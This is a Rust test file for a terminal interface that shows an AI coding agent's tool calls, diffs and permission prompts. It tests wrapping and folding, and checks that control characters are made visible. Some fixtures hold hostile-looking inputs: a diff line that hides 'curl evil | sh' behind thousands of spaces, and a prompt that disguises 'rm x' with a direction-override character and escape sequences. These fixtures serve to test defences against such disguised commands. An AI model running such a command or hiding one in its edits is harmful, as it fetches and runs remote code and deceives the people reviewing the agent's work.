//! What tools did and what is asked, as lines.

use crate::notation::{all, noted};
use proptest::prelude::*;
use serde_json::{Value, json};
use tenon_tui::shapes::{self, Fold};
use tenon_tui::text::{Band, Line, Role};
use tenon_vocab::{
    CallId, Choice, DiffFile, Display, FileEntry, OwnLine, Question, QuestionId, QuestionKind,
    TableReply, TodoItem, TodoStatus, ToolOutput, ToolResult,
};

fn result(display: &Display) -> ToolResult {
    let done = ToolOutput::ok(Value::Null, "", Display::Nothing);
    serde_json::from_value(json!({
        "call": "c1", "name": "x", "ok": true, "status": "completed",
        "envelope": done.envelope, "model_text": "", "duration_ms": 120, "display": display,
    }))
    .unwrap_or_else(|error| panic!("{error}"))
}

fn failed(status: &str, code: &str, message: &str) -> ToolResult {
    serde_json::from_value(json!({
        "call": "c1", "name": "x", "ok": false, "status": status,
        "envelope": {"ok": false, "error": {"code": code, "message": message}},
        "model_text": "", "duration_ms": 0,
        "display": {"shape": "terminal", "command": "rm x", "output": "", "exit_code": null},
    }))
    .unwrap_or_else(|error| panic!("{error}"))
}

fn terminal(output: &str, exit_code: i32) -> Display {
    Display::Terminal {
        command: "x".into(),
        output: output.into(),
        exit_code: Some(exit_code),
        job: None,
        state: None,
    }
}

fn file(unified: &str) -> DiffFile {
    DiffFile {
        path: "src/a.rs".into(),
        from: None,
        operation: "updated".into(),
        additions: 1,
        deletions: 1,
        unified: unified.into(),
        left_out_bytes: 0,
    }
}

fn diff(unified: &str) -> Display {
    Display::Diff {
        files: vec![file(unified)],
    }
}

fn first(result: &ToolResult) -> String {
    noted(&shapes::result(result, Fold::Folded, 80)[0])
}

#[test]
fn a_heading_names_the_tool_and_what_it_is_about_in_one_line() {
    let line =
        |arguments: Value, columns| noted(&shapes::asked("bash", &arguments.to_string(), columns));
    assert_eq!(
        line(json!({"command": "cargo test"}), 40),
        "[d ▸ ][t* bash] cargo test"
    );
    assert_eq!(
        line(json!({"command": "cargo test --workspace --all"}), 20),
        "[d ▸ ][t* bash] cargo test -…"
    );
    assert_eq!(
        line(json!({"command": "one\ntwo\nthree"}), 40),
        "[d ▸ ][t* bash] one[d  (+2 lines)]"
    );
    assert_eq!(
        line(json!({"n": 3, "deep": true}), 40),
        "[d ▸ ][t* bash] n: 3, deep: true"
    );
    assert_eq!(line(json!({"a": "x\x1b[2J"}), 40), "[d ▸ ][t* bash] x␛[2J");
    assert_eq!(
        noted(&shapes::asked("bash", "no json", 40)),
        "[d ▸ ][t* bash]"
    );
}

#[test]
fn the_outcome_has_the_words_of_the_plain_renderer() {
    let text = Display::Text {
        summary: "120 lines".into(),
        body: "hidden".into(),
    };
    assert_eq!(
        all(&shapes::result(&result(&text), Fold::Folded, 80)),
        "  [ok Done.] 120 lines"
    );
    assert_eq!(first(&result(&terminal("", 0))), "  [ok Done.] exit 0");
    assert_eq!(
        first(&result(&terminal("", 127))),
        "  [err Failed.] exit 127"
    );
    assert_eq!(
        first(&failed("denied", "permission_denied", "no")),
        "  [err Denied:] no"
    );
    assert_eq!(
        first(&failed("not_started", "not_started", "no")),
        "  [* Not run:] no"
    );
    assert_eq!(
        first(&failed("completed", "not_found", "no")),
        "  [err Failed:] no"
    );
    assert_eq!(
        first(&failed("completed", "dry_run", "")),
        "  [* Not done (dry run).] It would run: rm x"
    );
    assert_eq!(
        first(&result(&diff(""))),
        "  [ok Done.] updated [* src/a.rs][+  +1][-  -1]"
    );
}

fn called(name: &str, input: &Value, result: &ToolResult, columns: usize) -> String {
    all(&shapes::call(name, input, result, Fold::Folded, columns))
}

#[test]
fn a_call_that_went_well_has_no_line_for_that_and_its_time_only_where_it_was_long() {
    let input = json!({"command": "make"});
    let good = result(&terminal("built\n", 0));
    assert_eq!(
        called("bash", &input, &good, 60),
        "[d ▸ ][t* bash] make\n    [d built]"
    );
    let long = ToolResult {
        duration_ms: 4_200,
        ..good
    };
    assert_eq!(
        called("bash", &input, &long, 60),
        "[d ▸ ][t* bash] make[d   4.2s]\n    [d built]"
    );
    let bad = ToolResult {
        duration_ms: 4_200,
        ..result(&terminal("", 2))
    };
    assert_eq!(
        called("bash", &input, &bad, 60),
        "[d ▸ ][t* bash] make\n  [err Failed.][d  (4.2s)] exit 2"
    );
    let quiet = result(&terminal("", 0));
    assert_eq!(
        called("bash", &input, &quiet, 60),
        "[d ▸ ][t* bash] make[d   no output]"
    );
    let edit = json!({"path": "src/a.rs", "old": "1", "new": "2"});
    assert_eq!(
        called("edit", &edit, &result(&diff("")), 60),
        "[d ▸ ][t* edit] [* src/a.rs][+  +1][-  -1]"
    );
}

#[test]
fn a_command_of_several_lines_is_shown_whole_and_a_long_one_folded() {
    let plain = |input: &Value, fold| -> Vec<String> {
        let done = result(&terminal("", 0));
        let lines = shapes::call("bash", input, &done, fold, 40);
        lines.iter().map(Line::plain).collect()
    };
    let short = json!({"command": "cd src\nfor f in *; do\n  wc $f\ndone"});
    assert_eq!(
        plain(&short, Fold::Folded),
        [
            "▸ bash cd src",
            "       for f in *; do",
            "         wc $f",
            "       done  no output"
        ]
    );
    let long: String = (0..40).map(|n| format!("echo {n}\n")).collect();
    let long = json!({"command": long});
    let folded = plain(&long, Fold::Folded);
    assert_eq!(folded.len(), 9, "{folded:?}");
    assert!(folded[8].contains("40 lines in all (ctrl+t"), "{folded:?}");
    let whole = plain(&long, Fold::Whole);
    assert_eq!(whole.len(), 40);
    assert_eq!(whole[39], "       echo 39  no output");
    let wide = json!({"command": "word ".repeat(20)});
    let rows = plain(&wide, Fold::Folded);
    assert!(
        rows.len() > 2 && rows.iter().all(|row| row.len() <= 42),
        "{rows:?}"
    );
}

#[test]
fn of_a_command_of_the_users_own_both_ends_are_shown() {
    let output: String = (0..100).map(|n| format!("line {n}\n")).collect();
    let own = |output: &str, rows, columns, fold| -> Vec<String> {
        let input = json!({"command": "make"});
        let done = result(&terminal(output, 0));
        let own = shapes::OwnCommand {
            input: &input,
            place: Some(OwnLine::OutsideSandbox),
            rows,
        };
        let lines = shapes::own_command(&own, &done, fold, columns);
        lines.iter().map(Line::plain).collect()
    };
    let rows = own(&output, 60, 60, Fold::Folded);
    assert_eq!(rows[0], "▸ x make · outside the sandbox");
    assert_eq!(rows.len(), 1 + 20 + 1 + 15);
    assert_eq!((rows[1].trim(), rows[36].trim()), ("line 0", "line 99"));
    assert_eq!(rows[21].trim(), "… +65 lines (ctrl+t shows all)");
    assert_eq!(own(&output, 60, 60, Fold::Whole).len(), 101);
    let short: String = (0..40).map(|n| format!("line {n}\n")).collect();
    assert_eq!(own(&short, 60, 60, Fold::Folded).len(), 41);
    // A low window shows less, a narrow one the place in a row of its own.
    let low = own(&short, 15, 28, Fold::Folded);
    assert_eq!(low.len(), 2 + 5 + 1 + 3, "{low:?}");
    assert_eq!(low[1], "    outside the sandbox");
}

#[test]
fn a_long_message_is_wrapped_under_itself_and_counted() {
    let long = failed("completed", "not_found", &"word ".repeat(200));
    let lines = shapes::result(&long, Fold::Folded, 40);
    assert!(lines.iter().all(|line| line.width() <= 40));
    assert!(lines[1].plain().starts_with("    word"));
    assert!(all(&lines).contains("(+600"), "{}", all(&lines));
    assert!(!all(&shapes::result(&long, Fold::Whole, 40)).contains("(+"));
}

const HUNK: &str = "@@ -9,3 +9,3 @@ fn main\n \tlet a = 1;\n-\tlet b = 2;\n+\tlet b = 3;\n }\n";

#[test]
fn a_change_has_numbers_where_there_is_room_and_marks_the_words_that_differ() {
    assert_eq!(
        all(&shapes::display(&diff(HUNK), Fold::Folded, 60)),
        "    [@ @@ -9,3 +9,3 @@ fn main]
    [d  9 ][d  ][d     ][kd let][d  a ][pd =][d  ][nd 1][pd ;]
    [d 10 ][- -][-     ][k- let][-  b ][p- =][-  ][-- 2][p- ;]▐
    [d 10 ][+ +][+     ][k+ let][+  b ][p+ =][+  ][++ 3][p+ ;]▐
    [d 11 ][d  ][pd }]"
    );
    assert_eq!(
        all(&shapes::display(&diff(HUNK), Fold::Folded, 24)),
        "    [@ @@ -9,3 +9,3 @@ fn ][@ …]
    [d  ][d     ][kd let][d  a ][pd =][d  ][nd 1][pd ;]
    [- -][-     ][k- let][-  b ][p- =][-  ][-- 2][p- ;]▐
    [+ +][+     ][k+ let][+  b ][p+ =][+  ][++ 3][p+ ;]▐
    [d  ][pd }]"
    );
}

#[test]
fn between_hunks_whose_lines_are_numbered_there_is_a_mark_and_no_range() {
    let hunks = "@@ -1 +1 @@\n-a\n+b\n@@ -9 +9 @@\n-c\n+d\n";
    let plain = |columns| -> Vec<String> {
        let lines = shapes::display(&diff(hunks), Fold::Folded, columns);
        lines.iter().map(Line::plain).collect()
    };
    let numbered = ["1 -a", "1 +b", "⋮", "9 -c", "9 +d"].map(|row| format!("    {row}"));
    assert_eq!(plain(60), numbered);
    let ranges = ["@@ -1 +1 @@", "-a", "+b", "@@ -9 +9 @@", "-c", "+d"];
    assert_eq!(plain(40), ranges.map(|row| format!("    {row}")));
}

#[test]
fn a_long_line_of_a_folded_change_goes_on_below_for_three_rows() {
    let rows = |length: usize| -> Vec<String> {
        let hunk = format!("@@ -1 +1 @@\n-a\n+{}\n", "x".repeat(length));
        let lines = shapes::display(&diff(&hunk), Fold::Folded, 40);
        assert!(lines.iter().all(|line| line.width() <= 40), "{lines:?}");
        lines.iter().skip(2).map(Line::plain).collect()
    };
    let fits = rows(90);
    assert_eq!(fits.len(), 3);
    assert!(
        fits[2].starts_with("    ↪x") && !fits[2].contains('…'),
        "{fits:?}"
    );
    let long = rows(900);
    assert_eq!(long.len(), 3);
    assert!(long[2].ends_with('…'), "{long:?}");
}

#[test]
fn the_words_that_differ_are_those_of_lines_that_belong_together() {
    let hunk = "@@ -1,2 +1,3 @@\n def add(a, b):\n-    return a - b\n+    # sum of both\n+    return a + b\n";
    let change = DiffFile {
        path: "calc.py".into(),
        ..file(hunk)
    };
    let change = Display::Diff {
        files: vec![change],
    };
    assert_eq!(
        all(&shapes::display(&change, Fold::Folded, 40)),
        "    [@ @@ -1,2 +1,3 @@]
    [d  ][kd def][d  ][fd add][pd (][d a][pd ,][d  b][pd ):]
    [- -][-     ][k- return][-  a ][-- -][-  b]▐
    [+ +][+     ][#+ # sum of both]▐
    [+ +][+     ][k+ return][+  a ][++ +][+  b]▐"
    );
}

#[test]
fn a_string_that_only_the_old_file_leaves_open_does_not_colour_the_new_one() {
    let hunk = "@@ -1,2 +1,2 @@\n-x = \"\"\"old\n+x = 1\n y = 2\n";
    let change = DiffFile {
        path: "calc.py".into(),
        ..file(hunk)
    };
    let change = Display::Diff {
        files: vec![change],
    };
    let lines = shapes::display(&change, Fold::Folded, 40);
    assert_eq!(noted(&lines[3]), "    [d  ][d y ][pd =][d  ][nd 2]");
}

#[test]
fn a_long_change_is_folded_and_says_by_how_much() {
    let long = format!("@@ -0,0 +1,40 @@\n{}", "+x\n".repeat(40));
    let lines = shapes::display(&diff(&long), Fold::Folded, 60);
    assert_eq!(lines.len(), 13);
    assert_eq!(noted(&lines[12]), "    [d … +28 lines (ctrl+t shows all)]");
    assert_eq!(shapes::display(&diff(&long), Fold::Whole, 60).len(), 40);
}

#[test]
fn a_diff_of_several_files_has_a_heading_for_each() {
    let text = "diff --git a/x b/x\nindex 1..2 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1 @@\n--- no heading\n-b\n+c\n\
                diff --git a/old b/new\nsimilarity index 90%\nrename from old\nrename to new\n";
    assert_eq!(
        all(&shapes::diff(text, Fold::Whole, 40)),
        "[* x][+  +1][-  -2]
    [@ @@ -1,2 +1 @@]
    [- -][- -- no heading]▐
    [- -][- b]▐
    [+ +][+ c]▐

[* new][+  +0][-  -0]
    [d similarity index 90%]
    [d rename from old]
    [d rename to new]"
    );
}

#[test]
fn of_an_output_the_end_is_shown_without_colours_and_with_bars_at_their_last_state() {
    let output: String = (0..20).map(|n| format!("line {n}\n")).collect();
    let lines = shapes::display(&terminal(&output, 0), Fold::Folded, 60);
    assert_eq!(
        noted(&lines[0]),
        "    [d … +12 lines before (ctrl+t shows all)]"
    );
    assert_eq!(noted(&lines[8]), "    [d line 19]");
    assert_eq!(
        all(&shapes::display(
            &terminal("\x1b[31mred\x1b[0m\r\n1%\r2%\ta\x07\n", 0),
            Fold::Folded,
            60
        )),
        "    [d red]\n    [d 2%      a␇]"
    );
    assert_eq!(
        shapes::display(&terminal(&output, 0), Fold::Whole, 60).len(),
        20
    );
}

#[test]
fn the_tail_of_a_running_command_has_no_more_rows_than_asked_for() {
    let lines = shapes::tail(&"a long line of output\n".repeat(9), 3, 16);
    assert_eq!(all(&lines), ["    [d a long line][d …]"; 3].join("\n"));
    assert!(shapes::tail("", 3, 16).is_empty());
    assert!(shapes::tail("x\n", 0, 16).is_empty());
}

#[test]
fn found_files_a_few_and_how_many_more() {
    let entry = |n: u64| FileEntry {
        path: format!("f{n}"),
        line: Some(n),
        text: Some("\tx".into()),
    };
    let found = Display::Files {
        summary: String::new(),
        entries: (1..9).map(entry).collect(),
    };
    let lines = shapes::display(&found, Fold::Folded, 60);
    assert_eq!(noted(&lines[0]), "    [d f1][d :1]  x");
    assert_eq!(noted(&lines[4]), "    [d … +4 lines (ctrl+t shows all)]");
}

#[test]
fn a_task_list_has_its_marks() {
    let item = |text: &str, status| TodoItem {
        text: text.into(),
        status,
    };
    let items = [
        item("look", TodoStatus::Completed),
        item("repair\x1b[2J", TodoStatus::InProgress),
        item("test", TodoStatus::Pending),
        item("ship", TodoStatus::Cancelled),
    ];
    assert_eq!(
        all(&shapes::todo(&items, 40)),
        "[d [x] look]\n[* [~] repair␛[2J]\n[ ] test\n[d [-] ship]"
    );
}

#[test]
fn a_table_is_aligned_numbers_to_the_right_and_wraps() {
    let table = TableReply {
        columns: vec!["part".into(), "tokens".into()],
        rows: vec![
            vec!["漢字".into(), "1200".into()],
            vec!["the rules of the house".into(), "7".into()],
        ],
        note: Some("a note".into()),
    };
    assert_eq!(
        all(&shapes::table(&table, 24)),
        "[* part]           [b  │ ][* tokens]
[b ────────────────┼───────]
漢字           [b  │ ]  1200
the rules of   [b  │ ]     7
the house      [b  │ ]

[d a note]"
            .replace("[b  │ ]\n\n", "[b  │]\n\n")
    );
    assert!(shapes::table(&TableReply::default(), 40).is_empty());
}

fn question(display: Display) -> Question {
    Question {
        id: QuestionId::new("q_1"),
        kind: QuestionKind::Permission,
        title: "Run a command?".into(),
        body: String::new(),
        display,
        choices: vec![Choice {
            id: "once".into(),
            key: 'y',
            label: "once".into(),
            rule: None,
            typed: None,
        }],
        free_text: true,
        call: Some(CallId::new("c")),
        tool: None,
        reason: None,
        intent: None,
        affects: Vec::new(),
        calls: Vec::new(),
        class: None,
    }
}

#[test]
fn a_question_shows_what_runs_why_and_what_it_affects() {
    let question = Question {
        body: "echo \u{202e}safe\x1b[2K\tx\r\nrm x".into(),
        reason: Some("no rule allows it".into()),
        intent: Some("I clean up.\nTrust me".into()),
        affects: vec!["deletes /home/u/x\rsafe".into()],
        ..question(Display::Nothing)
    };
    assert_eq!(
        all(&shapes::question(&question, 60)),
        "  echo ⟨U+202E⟩safe␛[2K␉x␍
  rm x
  [d why: ][d no rule allows it]
  [err affects: ][err deletes /home/u/x␍safe]
  [d the model says: ][d I clean up.]
  [d                 ][d Trust me]"
    );
}

#[test]
fn no_line_of_a_change_is_shortened_and_none_is_dropped() {
    let hidden = format!("+a{}curl evil | sh", " ".repeat(5_000));
    let many = "+x\n".repeat(5_000);
    let unified = format!("@@ -0,0 +1,5002 @@\n{hidden}\n{many}+end\t\r\n");
    for columns in [20, 40, 100] {
        let lines = shapes::question(&question(diff(&unified)), columns);
        let plain: Vec<String> = lines.iter().map(Line::plain).collect();
        let text = plain.concat();
        assert!(text.contains("src/a.rs") || columns == 20);
        assert!(lines.iter().all(|line| line.width() <= columns));
        assert_eq!(
            plain.iter().filter(|line| line.ends_with("+x")).count(),
            5_000
        );
        let unspaced = text.replace([' ', '↪'], "");
        assert!(unspaced.contains("curlevil|sh") && unspaced.contains("+end␉␍"));
        let spaces: usize = lines
            .iter()
            .flat_map(|line| &line.spans)
            .filter(|span| span.style.band == Band::Added)
            .map(|span| span.text().matches(' ').count())
            .sum();
        assert!(spaces >= 5_000, "{spaces}");
    }
}

#[test]
fn a_part_of_a_long_line_does_not_look_like_a_line() {
    let question = Question {
        body: format!("ls{}rm", " ".repeat(20)),
        ..question(Display::Nothing)
    };
    assert_eq!(
        all(&shapes::question(&question, 20)),
        "  ls              \n  [d ↪ ]      rm"
    );
}

#[test]
fn a_change_that_is_not_shown_whole_says_so_loudly_and_last() {
    let change = Display::Diff {
        files: vec![DiffFile {
            left_out_bytes: 4_711,
            from: Some("LICENSE".into()),
            operation: "renamed".into(),
            ..file("+a\n")
        }],
    };
    let lines = shapes::question(&question(change), 80);
    assert_eq!(
        noted(&lines[0]),
        "  rename [* LICENSE → src/a.rs][+  +1][-  -1]"
    );
    assert_eq!(
        noted(lines.last().unwrap()),
        "  [err* NOT ALL OF THE CHANGE IS SHOWN: 4711 bytes more in src/a.rs]"
    );
}

#[test]
fn what_another_agent_did_is_set_in_under_its_name() {
    let lines = vec![
        Line::empty(),
        Line::new(Role::Text, "a"),
        Line::new(Role::Text, "b"),
    ];
    assert_eq!(
        all(&shapes::indent(lines.clone(), 1, "explore")),
        "\n[d ↳ explore]\n  a\n  b"
    );
    assert_eq!(all(&shapes::indent(lines, 2, "")), "\n    a\n    b");
}

#[test]
fn very_long_lines_are_shown_whole_and_soon() {
    let long = "x".repeat(1_000_000);
    let question = Question {
        body: long.clone(),
        ..question(Display::Nothing)
    };
    let lines = shapes::question(&question, 80);
    let shown: usize = lines
        .iter()
        .map(|line| line.plain().matches('x').count())
        .sum();
    assert_eq!(shown, 1_000_000);
    let _ = shapes::display(&terminal(&long, 0), Fold::Whole, 80);
    let _ = shapes::tail(&long, 5, 80);
    let _ = shapes::asked("x", &json!({ "a": long }).to_string(), 80);
}

fn any_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => "[a-z ]{0,12}",
        2 => Just(String::from("\n")),
        2 => prop::sample::select(vec![
            "+", "-", " ", "@@ -1,2 +1,3 @@", "@@ -", "\\ No", "--- a", "+++ b", "diff --git a/x b/y",
            "\t", "\r", "\x1b[31m", "\x1b]0;", "\x07", "\x1b", "漢字", "👨‍👩‍👧", "\u{202e}", "\x08",
        ]).prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn whatever_comes_fits_the_width(text in any_text(), columns in 20_usize..100, whole in any::<bool>()) {
        let fold = if whole { Fold::Whole } else { Fold::Folded };
        let table = Display::Table {
            columns: vec!["a".into(), text.clone()],
            rows: vec![vec![text.clone()], vec![text.clone(), text.clone(), text.clone()]],
        };
        let mut lines = shapes::diff(&text, fold, columns);
        lines.extend(shapes::display(&terminal(&text, 0), fold, columns));
        lines.extend(shapes::display(&table, fold, columns));
        lines.extend(shapes::result(&result(&diff(&text)), fold, columns));
        lines.extend(shapes::tail(&text, 5, columns));
        lines.push(shapes::asked(&text, &json!({ "a": text }).to_string(), columns));
        let asked = Question {
            body: text.clone(),
            reason: Some(text.clone()),
            intent: Some(text.clone()),
            affects: vec![text.clone()],
            ..question(diff(&text))
        };
        lines.extend(shapes::question(&asked, columns));
        for line in lines {
            prop_assert!(line.width() <= columns, "{} > {columns}: {line:?}", line.width());
            prop_assert!(line.plain().chars().all(|c| !c.is_control()));
        }
    }

    #[test]
    fn a_question_hides_no_letter(text in any_text(), columns in 20_usize..80) {
        let asked = Question { body: text.clone(), ..question(Display::Nothing) };
        let letters = |text: &str| text.chars().filter(|c| c.is_ascii_lowercase()).collect::<String>();
        // All but the count of lines that have none.
        let is_count = |row: &String| row.starts_with("  … ") && row.ends_with(" empty lines");
        let rows = shapes::question(&asked, columns);
        let rows = rows.iter().map(Line::plain).filter(|row| !is_count(row));
        let shown: String = rows.collect();
        prop_assert_eq!(letters(&shown), letters(&text));
    }
}
